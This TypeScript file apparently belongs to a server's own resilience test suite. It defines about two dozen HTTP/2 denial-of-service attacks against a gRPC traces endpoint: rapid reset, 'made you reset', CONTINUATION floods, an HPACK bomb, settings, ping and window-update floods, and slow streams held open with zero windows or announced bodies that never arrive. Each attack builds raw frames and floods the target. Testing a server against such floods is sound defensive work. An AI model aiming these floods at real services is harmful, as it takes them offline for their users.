/** Attacks on HTTP/2 itself, frame by frame, and calls that hold what they can. */
import { signals } from '../../proto/signals.ts'
import { itemWith, repeated } from './bodies.ts'
import { type Attack, flood, http2Wire, stay, type Target, type Wire } from './attack.ts'
import * as h2 from './frames.ts'

const path = signals.traces.grpcPath
/** The head of a call. */
export const head = h2.callHead(path)
/** The message of a call. */
export const small = h2.message(itemWith('traces', []))
const { END_HEADERS, END_STREAM, HEADERS, frame } = h2

/** Streams of one connection, as many as it may have. */
const streams = 995

/** Opens so many connections. */
function wires(target: Target, count: number, values: Readonly<Record<number, number>> = {}, reads = true): Wire[] {
  return Array.from({ length: count }, () => http2Wire(target.ports.grpc, values, reads))
}

/** A call on each of the streams that a connection may have. */
export const calls = (message: Buffer, end: boolean, count = streams): Buffer =>
  Buffer.concat(
    Array.from({ length: count }, (_, i) =>
      Buffer.concat([
        frame(HEADERS, END_HEADERS, i * 2 + 1, head),
        frame(h2.DATA, end ? END_STREAM : 0, i * 2 + 1, message),
      ]),
    ),
  )

/** A flood over a few connections, made again when they are ended, of bytes that are made per round. */
export async function floods(
  target: Target,
  connections: number,
  make: (round: number) => Buffer,
  most = 48 << 20,
): Promise<void> {
  await Promise.all(
    Array.from({ length: connections }, async () => {
      let sent = 0
      for (let turn = 0; turn < 50 && sent < most && !target.over.aborted; turn++) {
        const wire = http2Wire(target.ports.grpc)
        for (let round = 0; sent < most && !target.over.aborted; round++) {
          const bytes = make(round)
          if (!(await wire.write(bytes))) break
          sent += bytes.length
          await new Promise(resolve => setImmediate(resolve))
        }
        target.heard(wire.closed ? 'the connection ended' : 'the flood was read')
        wire.close()
      }
    }),
  )
}

/** The same bytes, so many times. */
export const many = (one: Buffer, count: number): Buffer => repeated(one, one.length * count)

/** Calls on streams of growing numbers, as `make` writes them. */
export const onStreams = (round: number, count: number, make: (stream: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, i) => make((round * count + i) * 2 + 1)))

const holding: readonly Attack[] = [
  {
    name: '110 connections of 995 calls whose answers are never read (window 0)',
    of: 'F5',
    seconds: 20,
    async run(target) {
      const open = wires(target, 110, { [h2.INITIAL_WINDOW_SIZE]: 0 })
      const bytes = calls(small, true)
      for (const wire of open) {
        if (target.over.aborted) break
        await wire.write(bytes)
      }
      await stay(target, 20_000)
      target.heard(`${open.filter(wire => wire.closed).length} of 110 connections ended`)
    },
  },
  {
    name: '40 connections of calls again and again, from which nothing is read at all',
    of: 'F5',
    seconds: 20,
    async run(target) {
      const bytes = calls(small, true, 400)
      await Promise.all(
        wires(target, 40, { [h2.INITIAL_WINDOW_SIZE]: 0x7fffffff }, false).map(async wire => {
          await wire.write(bytes)
          await flood(target, wire, many(frame(h2.PING, 0, 0, Buffer.alloc(8)), 200), 1 << 20)
        }),
      )
      await stay(target, 15_000)
    },
  },
  {
    name: '9 connections of 995 calls that announce 60 MB and stay silent',
    of: 'F7',
    seconds: 15,
    async run(target) {
      const bytes = calls(h2.message(Buffer.alloc(100), { announced: 60_000_000 }), false)
      const open = wires(target, 9)
      for (const wire of open) await wire.write(bytes)
      await stay(target, 14_000)
      target.heard(`${open.filter(wire => wire.closed).length} of 9 connections ended`)
    },
  },
  {
    name: '60 connections of 100 calls that announce 4 MB, and send a byte a second',
    of: 'F7',
    seconds: 15,
    async run(target) {
      const bytes = calls(h2.message(Buffer.alloc(10), { announced: 4_000_000 }), false, 100)
      const drop = Buffer.concat(Array.from({ length: 100 }, (_, i) => frame(h2.DATA, 0, i * 2 + 1, Buffer.alloc(1))))
      const open = wires(target, 60)
      for (const wire of open) await wire.write(bytes)
      for (let i = 0; i < 13 && !target.over.aborted; i++) {
        await stay(target, 1000)
        for (const wire of open) void wire.write(drop)
      }
    },
  },
  {
    name: '200 connections of 995 streams with a head and no body',
    of: 'F7',
    seconds: 15,
    async run(target) {
      const bytes = onStreams(0, streams, stream => frame(HEADERS, END_HEADERS, stream, head))
      for (const wire of wires(target, 200)) {
        if (target.over.aborted) break
        await wire.write(bytes)
      }
      await stay(target, 12_000)
    },
  },
]

const flooding: readonly Attack[] = [
  {
    name: 'calls that are reset at once (rapid reset)',
    of: 'held',
    seconds: 6,
    run: target =>
      floods(target, 4, round =>
        onStreams(round, 500, stream =>
          Buffer.concat([frame(HEADERS, END_HEADERS, stream, head), frame(h2.RST_STREAM, 0, stream, h2.uint32(8))]),
        ),
      ),
  },
  {
    name: 'calls that are reset after their message came',
    of: 'held',
    run: target =>
      floods(target, 4, round =>
        onStreams(round, 300, stream =>
          Buffer.concat([
            frame(HEADERS, END_HEADERS, stream, head),
            frame(h2.DATA, END_STREAM, stream, small),
            frame(h2.RST_STREAM, 0, stream, h2.uint32(8)),
          ]),
        ),
      ),
  },
  {
    name: 'calls with windows that make the server reset them (made you reset)',
    of: 'held',
    run: target =>
      floods(target, 4, round =>
        onStreams(round, 300, stream =>
          Buffer.concat([frame(HEADERS, END_HEADERS, stream, head), frame(h2.WINDOW_UPDATE, 0, stream, h2.uint32(0))]),
        ),
      ),
  },
  {
    name: 'heads that never end (CONTINUATION)',
    of: 'held',
    seconds: 6,
    run: target => {
      const part = many(frame(h2.CONTINUATION, 0, 1, many(h2.literal('a', 'x'.repeat(100)), 100)), 20)
      return floods(target, 4, round => (round === 0 ? frame(HEADERS, 0, 1, head) : part))
    },
  },
  {
    name: 'heads in empty pieces (CONTINUATION of 0 bytes)',
    of: 'held',
    run: target =>
      floods(target, 4, round => (round === 0 ? frame(HEADERS, 0, 1, head) : many(frame(h2.CONTINUATION, 0, 1), 5000))),
  },
  { name: 'settings again and again', of: 'held', run: target => floods(target, 4, () => many(h2.settings(), 5000)) },
  {
    name: 'settings of many values, which change the windows of 900 streams',
    of: 'held',
    run: target => {
      const open = onStreams(0, 900, stream => frame(HEADERS, END_HEADERS, stream, head))
      const change = Buffer.concat([
        h2.settings({ [h2.INITIAL_WINDOW_SIZE]: 0 }),
        h2.settings({ [h2.INITIAL_WINDOW_SIZE]: 0x7fffffff }),
      ])
      return floods(target, 4, round => (round === 0 ? open : many(change, 500)))
    },
  },
  {
    name: 'pings again and again',
    of: 'held',
    run: target => floods(target, 4, () => many(frame(h2.PING, 0, 0, Buffer.alloc(8)), 5000)),
  },
  {
    name: 'empty DATA frames on a call',
    of: 'held',
    run: target =>
      floods(target, 4, round =>
        round === 0 ? frame(HEADERS, END_HEADERS, 1, head) : many(frame(h2.DATA, 0, 1), 5000),
      ),
  },
  {
    name: 'DATA frames of padding on a call',
    of: 'held',
    run: target => {
      const padding = frame(h2.DATA, h2.PADDED, 1, Buffer.concat([Buffer.from([255]), Buffer.alloc(255)]))
      return floods(target, 4, round => (round === 0 ? frame(HEADERS, END_HEADERS, 1, head) : many(padding, 100)))
    },
  },
  {
    name: 'window updates again and again',
    of: 'held',
    run: target =>
      floods(target, 4, round =>
        round === 0
          ? frame(HEADERS, END_HEADERS, 1, head)
          : many(
              Buffer.concat([frame(h2.WINDOW_UPDATE, 0, 0, h2.uint32(1)), frame(h2.WINDOW_UPDATE, 0, 1, h2.uint32(1))]),
              3000,
            ),
      ),
  },
  {
    name: 'priorities of streams that are not there',
    of: 'held',
    run: target =>
      floods(target, 4, round =>
        onStreams(round, 2000, stream => frame(h2.PRIORITY, 0, stream, Buffer.from([0, 0, 0, 0, 1]))),
      ),
  },
  {
    name: 'frames of types that are not known',
    of: 'held',
    run: target => floods(target, 4, () => many(frame(0x77, 0, 0, Buffer.alloc(10)), 5000)),
  },
  {
    name: 'GOAWAY frames with 16 KiB of text each',
    of: 'held',
    run: target => floods(target, 4, () => many(frame(h2.GOAWAY, 0, 0, Buffer.alloc(16_000)), 20)),
  },
]

const headers: readonly Attack[] = [
  {
    name: 'heads that unpack to 250 times their size (HPACK bomb)',
    of: 'held',
    seconds: 6,
    run: target => {
      const value = h2.remembered('x', 'v'.repeat(3900))
      const bomb = Buffer.concat([head, many(h2.indexed(62), 8000)])
      return floods(target, 4, round =>
        onStreams(round, 20, stream =>
          frame(HEADERS, END_HEADERS | END_STREAM, stream, stream === 1 ? Buffer.concat([head, value]) : bomb),
        ),
      )
    },
  },
  {
    name: 'heads that fill the table of headers anew each time',
    of: 'held',
    run: target =>
      floods(target, 4, round =>
        onStreams(round, 50, stream => {
          const fields = Array.from({ length: 60 }, (_, i) => h2.remembered(`n${stream}-${i}`, 'v'.repeat(20)))
          return frame(HEADERS, END_HEADERS | END_STREAM, stream, Buffer.concat([head, ...fields]))
        }),
      ),
  },
  {
    name: 'heads that change the size of the table a thousand times',
    of: 'held',
    run: target =>
      floods(target, 4, round =>
        onStreams(round, 20, stream =>
          frame(
            HEADERS,
            END_HEADERS | END_STREAM,
            stream,
            Buffer.concat([many(Buffer.concat([h2.tableSize(0), h2.tableSize(4096)]), 500), head]),
          ),
        ),
      ),
  },
  {
    name: 'heads of 5,000 fields',
    of: 'held',
    run: target => {
      const fields = Buffer.concat([head, many(h2.literal('x', ''), 3000)])
      return floods(target, 4, round =>
        onStreams(round, 20, stream => frame(HEADERS, END_HEADERS | END_STREAM, stream, fields)),
      )
    },
  },
  {
    name: 'heads with numbers that never end',
    of: 'held',
    run: target => {
      const endless = Buffer.concat([head, Buffer.from([0xff]), Buffer.alloc(10_000, 0xff)])
      return floods(target, 4, round => onStreams(round, 20, stream => frame(HEADERS, END_HEADERS, stream, endless)))
    },
  },
  {
    name: '600 streams with heads of 15 KiB, held open, on each of 30 connections',
    of: 'held',
    seconds: 12,
    async run(target) {
      const large = Buffer.concat([head, h2.literal('large', 'x'.repeat(15_000))])
      const bytes = onStreams(0, 600, stream => frame(HEADERS, END_HEADERS, stream, large))
      for (const wire of wires(target, 30)) {
        if (target.over.aborted) break
        await wire.write(bytes)
      }
      await stay(target, 8000)
    },
  },
]

/** The rows. */
export const http2Attacks: readonly Attack[] = [...holding, ...flooding, ...headers]
